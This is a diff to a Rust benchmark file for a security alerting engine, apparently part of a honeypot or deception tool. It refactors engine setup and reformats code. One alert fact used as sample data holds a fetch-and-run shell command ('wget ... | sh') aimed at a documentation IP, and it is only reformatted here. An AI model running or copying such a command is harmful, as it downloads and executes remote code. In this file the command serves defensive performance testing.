@@ -26,7 +26,7 @@ use common::{event, Receiver};
 use decnet_alerts::channels::{self, ChannelContext};
 use decnet_alerts::delivery::spool::Spool;
 use decnet_alerts::delivery::Delivery;
-use decnet_alerts::{Alert, AlertEngine, AlertsConfig};
+use decnet_alerts::{Alert, AlertEngine, AlertHandle, AlertsConfig};
 use decnet_bus::{Bus, MemoryBus};
 use decnet_core::{Event, EventKind};
 use serde_json::json;
@@ -57,18 +57,27 @@ fn hook_ini(rx: &Receiver, extra: &str) -> String {
     )
 }
 
-async fn latency() {
-    let rx = Receiver::start().await;
+/// An engine on a memory bus whose webhook channel posts to `rx`.
+async fn engine_to(rx: &Receiver) -> (Arc<MemoryBus>, AlertHandle, tempfile::TempDir) {
     let bus = MemoryBus::new();
     let dynbus: Arc<dyn Bus> = bus.clone();
     let spool = tempfile::tempdir().unwrap();
-    let h = AlertEngine::spawn(dynbus, AlertsConfig::from_ini(&hook_ini(&rx, "")).unwrap(), spool.path())
-        .await
-        .unwrap();
+    let cfg = AlertsConfig::from_ini(&hook_ini(rx, "")).unwrap();
+    let h = AlertEngine::spawn(dynbus, cfg, spool.path()).await.unwrap();
+    (bus, h, spool)
+}
+
+async fn latency() {
+    let rx = Receiver::start().await;
+    let (bus, h, _spool) = engine_to(&rx).await;
     let n = 1000;
     let mut sent: HashMap<Uuid, Instant> = HashMap::new();
     for i in 0..n {
-        let e = event(EventKind::AuthAttempt, &ip(i + 1), json!({"username": "root", "success": true}));
+        let e = event(
+            EventKind::AuthAttempt,
+            &ip(i + 1),
+            json!({"username": "root", "success": true}),
+        );
         sent.insert(e.id, Instant::now());
         bus.publish_event(e);
         tokio::time::sleep(Duration::from_millis(5)).await;
@@ -112,12 +121,7 @@ fn traffic(n: usize) -> Vec<Event> {
 
 async fn engine_cost() {
     let rx = Receiver::start().await;
-    let bus = MemoryBus::new();
-    let dynbus: Arc<dyn Bus> = bus.clone();
-    let spool = tempfile::tempdir().unwrap();
-    let h = AlertEngine::spawn(dynbus, AlertsConfig::from_ini(&hook_ini(&rx, "")).unwrap(), spool.path())
-        .await
-        .unwrap();
+    let (bus, h, _spool) = engine_to(&rx).await;
     let rate = 10_000;
     let secs = 10;
     let events = traffic(rate * secs);
@@ -170,18 +174,26 @@ async fn spool() {
     let n = 100_000;
     let alert = Arc::new({
         let mut a = Alert::test("hook");
-        a.facts.push(decnet_alerts::Fact::new("command", "wget http://203.0.113.9/x.sh -O- | sh"));
+        a.facts.push(decnet_alerts::Fact::new(
+            "command",
+            "wget http://203.0.113.9/x.sh -O- | sh",
+        ));
         a
     });
     {
         let mut s = Spool::open(dir.path(), 4 << 20, 1_000_000).unwrap().spool;
-        let batch: Vec<(String, Arc<Alert>)> = (0..1000).map(|_| ("hook".to_string(), alert.clone())).collect();
+        let batch: Vec<(String, Arc<Alert>)> = (0..1000)
+            .map(|_| ("hook".to_string(), alert.clone()))
+            .collect();
         let t0 = Instant::now();
         for _ in 0..n / 1000 {
             s.append(&batch, Utc::now()).unwrap();
         }
         let dt = t0.elapsed().as_secs_f64();
-        println!("spool append: {:.0} messages/s (batches of 1,000, each fsync'd)", n as f64 / dt);
+        println!(
+            "spool append: {:.0} messages/s (batches of 1,000, each fsync'd)",
+            n as f64 / dt
+        );
     }
     let t0 = Instant::now();
     let opened = Spool::open(dir.path(), 4 << 20, 1_000_000).unwrap();
@@ -213,10 +225,18 @@ async fn spool() {
         }
     }
     let cfg = AlertsConfig::from_ini(&hook_ini(&rx, "concurrency = 8")).unwrap();
-    let ctx = ChannelContext { node: "bench".into(), link: None };
+    let ctx = ChannelContext {
+        node: "bench".into(),
+        link: None,
+    };
     let ch = channels::build(&cfg.channels[0], &ctx).unwrap();
     let t0 = Instant::now();
-    let d = Delivery::open(dir.path(), cfg.delivery.clone(), vec![(cfg.channels[0].clone(), ch)]).unwrap();
+    let d = Delivery::open(
+        dir.path(),
+        cfg.delivery.clone(),
+        vec![(cfg.channels[0].clone(), ch)],
+    )
+    .unwrap();
     rx.wait_for(m, 300).await;
     let dt = t0.elapsed().as_secs_f64();
     println!(
